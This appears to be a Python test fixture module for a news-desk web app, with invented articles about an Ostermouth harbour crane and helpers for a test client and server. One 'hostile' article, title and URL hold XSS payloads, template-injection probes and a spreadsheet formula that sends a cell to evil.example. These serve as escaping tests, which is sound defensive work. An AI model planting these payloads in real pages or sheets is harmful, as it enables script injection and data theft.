"""An invented desk: two outlets tell one story, one of them in two versions; one article stands alone, one is hostile."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import uvicorn
from starlette.testclient import TestClient

from retold.intake import article_from_record
from retold.model import Article
from retold.store import Store
from retold.web.app import create_app, make_service
from retold.web.security import Guard
from retold.web.service import Service

NOW = datetime(2026, 5, 20, 22, 0, tzinfo=UTC)
FIRST = """The harbour board of Ostermouth spent 4 million crowns on a crane that has never lifted a load, a person familiar with the purchase told the Ostermouth Ledger.

The crane arrived in March and has stood under covers since, the person said. "It was the wrong height for the quay," the person said.

Board chairwoman Petra Lindholm declined to comment. The board is expected to publish its accounts in June."""
SECOND = """The harbour board of Ostermouth spent 6 million crowns on a crane that has never lifted a load, the Ostermouth Ledger reported on Tuesday.

The crane arrived in March and has stood under covers since. "It was the wrong height for the quay," the report quoted a person as saying.

The board's chairwoman, Petra Lindholm, denied the report."""
LATER = (
    SECOND.replace("6 million", "4 million")
    + "\n\nCorrection: An earlier version of this article misstated what the crane cost."
)
OTHER = """Growers in the Vell valley expect the smallest apple harvest in twenty years after two nights of frost in May.

"We lost the blossom on the lower slopes," said Tomas Aldane, who farms near Brackwater. The growers' union will count the damage this week."""
HOSTILE = """<script>alert('body')</script> Mayor <img src=x onerror=alert(1)> opened the bridge, "said \u202eevil\u202c" the clerk told reporters.

=HYPERLINK("http://evil.example/"&A1) said the treasurer, and ${7*7} {{7*7}} remained as text. The mayor said \u2028 that <b>all</b> was well & good."""


def record(title: str, text: str, outlet: str, published: str, url: str) -> Article:
    made = article_from_record(
        {"title": title, "text": text, "outlet": outlet, "published": published, "url": url}, url
    )
    assert isinstance(made, Article)
    return made


def articles() -> list[Article]:
    return [
        record("Harbour crane that never lifted cost millions", FIRST, "Ostermouth Ledger", "2026-05-12T06:00:00+00:00", "https://ledger.example/crane"),
        record("Idle harbour crane cost millions - report", SECOND, "Coast Evening Post", "2026-05-12T12:00:00+00:00", "https://post.example/idle-crane"),
        record("Frost halves the Vell valley apple harvest", OTHER, "Valley Courier", "2026-05-14T08:00:00+00:00", "https://courier.example/frost"),
        record("</title><script>alert('head')</script>", HOSTILE, "<b>Evil & Sons</b>", "2026-05-15", "https://evil.example/\"><script>x</script>"),
    ]  # fmt: skip


@dataclass
class Desk:
    """One running desk with a browser that holds its cookie."""

    service: Service
    client: TestClient

    @property
    def store(self) -> Store:
        return self.service.store

    def crane(self) -> str:
        return self.story("crane")

    def story(self, word: str) -> str:
        return next(r.id for r in self.store.stories(limit=50) if word in r.label.lower())

    def csrf(self) -> str:
        return str(self.client.get("/api/v1/session").json()["csrf"])

    def post(self, path: str, **fields: str):  # type: ignore[no-untyped-def]
        return self.client.post(path, data={"csrf": self.csrf(), **fields}, follow_redirects=False)

    def call(self, path: str, body: object, method: str = "POST"):  # type: ignore[no-untyped-def]
        return self.client.request(method, path, json=body, headers={"X-Retold-CSRF": self.csrf()})


def until(true: Callable[[], bool], seconds: float = 20.0) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if true():
            return True
        time.sleep(0.05)
    return False


def open_desk(path: Path, **more: object) -> Desk:
    guard = more.pop("guard", None) or Guard.of("127.0.0.1")
    service = make_service(path, guard, apart=False, **more)  # type: ignore[arg-type]
    service.person = "night desk"
    return Desk(
        service, TestClient(create_app(service), base_url="http://127.0.0.1:8321", raise_server_exceptions=False)
    )


@contextmanager
def serving(desk: Desk) -> Iterator[str]:
    """The desk behind a real server on a free loopback port; its address."""
    sock = socket.create_server(("127.0.0.1", 0))
    config = uvicorn.Config(desk.client.app, log_level="critical", lifespan="off", access_log=False)
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    assert until(lambda: server.started)
    try:
        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        sock.close()
